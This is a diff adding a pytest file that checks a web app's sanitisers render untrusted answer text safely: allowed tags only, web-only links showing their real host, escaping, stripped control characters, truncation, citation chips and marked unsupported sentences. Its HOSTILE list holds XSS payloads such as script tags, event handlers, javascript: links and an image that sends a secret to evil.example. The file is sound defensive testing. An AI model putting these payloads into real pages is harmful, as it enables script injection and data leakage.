@@ -1,0 +1,129 @@
+"""Untrusted text on the page: nothing runs, nothing loads, everything is bounded, and reads as it was written."""
+
+import html
+import re
+
+import pytest
+
+from pages.components.text import MAX_ANSWER, answer_html, clean, html_of, label, markdown_of
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "<svg/onload=alert(1)>",
+    "![pixel](https://evil.example/p.png?secret=1)",
+    "[click](javascript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:x)",
+    "<https://evil.example>",
+    "https://evil.example/auto",
+    '[x](https://evil.example "onmouseover=alert(1)")',
+    "[1]: https://evil.example 'reference'\n\n[1]",
+    '<a href="https://evil.example">x</a>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "</div></dialog><style>*{display:none}</style>",
+    "`` <b> ``",
+    "    <b>indented</b>",
+    "```html\n<b>fenced</b>\n```",
+    "| <b> | ![x](//evil.example/y) |\n|---|---|\n| <i> | [z](//evil.example) |",
+    "<!-- comment --> <![CDATA[x]]>",
+    "\u202enimda\u202c \ufeff\x00\x1b[31m",
+    "\U0010fff0 forged marks \U0010fff1",
+    "\ud800 lone surrogate",
+    ":material/home: :smile: :red[x] $\\href{javascript:x}{y}$",
+)
+ALLOWED = {
+    "p", "br", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "a", "span", "mark", "button",
+    "table", "thead", "tbody", "tr", "th", "td", "h3", "h4", "h5", "h6",
+}  # fmt: skip
+
+
+def tags(markup: str) -> set[str]:
+    return {name.lower() for name in re.findall(r"<\s*/?\s*([a-zA-Z!][^\s/>]*)", markup)}
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_an_answer_makes_only_harmless_elements(text: str) -> None:
+    markup = answer_html(text, {1}, lambda number: f"<button>{number}</button>", [text])
+    assert tags(markup) <= ALLOWED
+    assert not re.search(r"<[^>]*\s(on\w+|src|style|srcdoc|formaction)\s*=", markup, re.IGNORECASE)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_links_of_an_answer_lead_to_the_web_only_and_name_their_host(text: str) -> None:
+    markup = answer_html(text)
+    targets = re.findall(r'href="([^"]*)"', markup)
+    assert all(target.startswith(("http://", "https://")) for target in targets)
+    assert markup.count('<span class="gt-host">') == len(targets)
+
+
+def test_the_host_behind_a_link_is_the_one_it_leads_to() -> None:
+    markup = answer_html("[bank.example](https://bank.example@evil.example/login)")
+    assert '<span class="gt-host">evil.example</span>' in markup
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_html_holds_the_text_and_no_element(text: str) -> None:
+    escaped = html_of(text)
+    assert "<" not in escaped
+    assert '"' not in escaped
+    assert html.unescape(escaped) == clean(text)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markdown_escapes_every_sign_that_means_something(text: str) -> None:
+    escaped = markdown_of(text)
+    assert "\n" not in escaped
+    assert not re.search(r"(?<!\\)[\[\]<>*_`$!#|~&:()]", escaped.replace("\\\\", ""))
+    assert ":material" not in escaped
+    assert ":smile" not in escaped
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_can_always_be_sent_as_utf8(text: str) -> None:
+    for made in (clean(text), label(text), html_of(text), markdown_of(text), answer_html(text)):
+        made.encode("utf-8")
+        assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08]", made)
+
+
+def test_long_text_is_cut_and_says_so() -> None:
+    assert clean("x" * 50, 10) == "xxxxxxxxx…"
+    assert len(answer_html("word " * MAX_ANSWER)) < 2 * MAX_ANSWER
+    assert label("a\n  b\tc") == "a b c"
+
+
+def test_known_citations_become_chips_and_unknown_ones_stay_text() -> None:
+    markup = answer_html("A [1] b [2, 3] c [9] d [1][2].", {1, 2, 3}, lambda number: f"<button>{number}</button>")
+    assert re.findall(r"<button>(\d)</button>", markup) == ["1", "2", "3", "1", "2"]
+    assert "[9]" in markup
+
+
+def test_a_citation_in_code_stays_code() -> None:
+    assert "<button" not in answer_html("`x[1]`\n\n```\ny[1]\n```", {1}, lambda number: f"<button>{number}</button>")
+
+
+@pytest.mark.parametrize(
+    ("answer", "sentence"),
+    [
+        ("First. Second is wrong. Third.", "Second is wrong."),
+        ("- Item is wrong.\n- Fine.", "- Item is wrong."),
+        ("## Wrong heading\n\nText.", "## Wrong heading"),
+        ("1. **Bold** is wrong.\n2. Fine.", "**Bold** is wrong."),
+        ("中文句子没有依据。另一句。", "中文句子没有依据。"),
+    ],
+)
+def test_a_sentence_without_support_is_marked(answer: str, sentence: str) -> None:
+    markup = answer_html(answer, unsupported=[sentence])
+    marked = re.findall(r'<mark class="gt-unsupported">(.*?)</mark>', markup)
+    assert len(marked) == 1
+    assert re.sub(r"<[^>]+>", "", marked[0]) == re.sub(r"^(- |## )|\*\*", "", sentence)
+
+
+def test_a_mark_never_reaches_over_paragraphs() -> None:
+    markup = answer_html("One.\n\nTwo.", unsupported=["One.\n\nTwo."])
+    assert "<mark" not in markup
+    assert "One." in markup
+
+
+def test_headings_of_an_answer_stand_below_those_of_the_page() -> None:
+    assert answer_html("# Top\n\n###### Deep") == "<h3>Top</h3><h6>Deep</h6>"
